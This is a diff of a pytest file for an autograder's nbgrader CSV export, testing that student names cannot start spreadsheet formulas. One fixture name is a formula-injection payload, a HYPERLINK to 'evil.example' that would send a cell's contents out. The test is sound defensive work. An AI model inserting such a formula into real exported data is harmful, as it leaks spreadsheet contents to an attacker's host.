@@ -6,10 +6,13 @@ import csv
 from pathlib import Path
 
 import pytest
+from nbgrader.api import Gradebook
+from traitlets.config import PyFileConfigLoader
+from traitlets.utils.importstring import import_item
 
-from autograder.nbgrader_plugins.export import COLUMNS, safe_field
+from autograder.nbgrader_plugins.export import COLUMNS, CsvExport, safe_field
 
-from .conftest import Class, nbgrader
+from .conftest import ROOT
 
 NAMES = {
     "formula": '=HYPERLINK("http://evil.example?"&A1)',
@@ -29,21 +32,33 @@ def test_a_name_is_never_the_beginning_of_a_formula_or_a_line(kind: str) -> None
     assert "\n" not in field
 
 
-@pytest.mark.parametrize("value", ["Anna-Maria", "O'Neill", "Øe, Åse", -3.5, 2, 1e-07, "2026-11-21 10:00:00", "a@b.example"])
+@pytest.mark.parametrize(
+    "value", ["Anna-Maria", "O'Neill", "Øe, Åse", -3.5, 2, 1e-07, "2026-11-21 10:00:00", "a@b.example"]
+)
 def test_an_ordinary_value_stays_as_it_is(value: object) -> None:
     assert safe_field(value) == str(value)
 
 
-def test_nbgrader_export_uses_it(course: Path, tmp_path: Path) -> None:
-    those = Class(course)
-    those.folder("named")
-    nbgrader(course, "db", "student", "add", "named", f"--last-name={NAMES['formula']}", "--first-name=Åse, B.")
+def test_the_course_exports_with_it() -> None:
+    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
+    assert import_item(config.ExportApp.plugin_class) is CsvExport
+
+
+@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # of nbgrader's own
+def test_a_row_holds_a_student_s_own_name_and_no_other_column(tmp_path: Path) -> None:
     written = tmp_path / "grades.csv"
-    nbgrader(course, "export", "--to", str(written))
+    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
+        gradebook.add_assignment("numbers")
+        gradebook.add_assignment("left out")
+        gradebook.add_student("eve", last_name=NAMES["formula"], first_name="Åse, B.")
+        gradebook.add_student("bob", last_name="O'Neill", email="-bob@b.example")
+        gradebook.add_submission("numbers", "bob")
+        CsvExport(to=str(written), assignment=["numbers"]).export(gradebook)
     with written.open(newline="", encoding="utf-8") as file:
-        rows = list(csv.DictReader(file))
-    assert tuple(rows[0]) == COLUMNS
-    named = next(row for row in rows if row["student_id"] == "named")
-    assert named["last_name"] == f"'{NAMES['formula']}"
-    assert named["first_name"] == "Åse, B."
-    assert float(named["max_score"]) == 9
+        rows = {row["student_id"]: row for row in csv.DictReader(file)}
+    assert tuple(rows["eve"]) == COLUMNS
+    assert rows["eve"]["last_name"] == f"'{NAMES['formula']}"
+    assert rows["eve"]["first_name"] == "Åse, B."
+    assert rows["bob"]["last_name"] == "O'Neill"
+    assert rows["bob"]["email"] == "'-bob@b.example"
+    assert [row["score"] for row in rows.values()] == ["0.0", "0.0"]
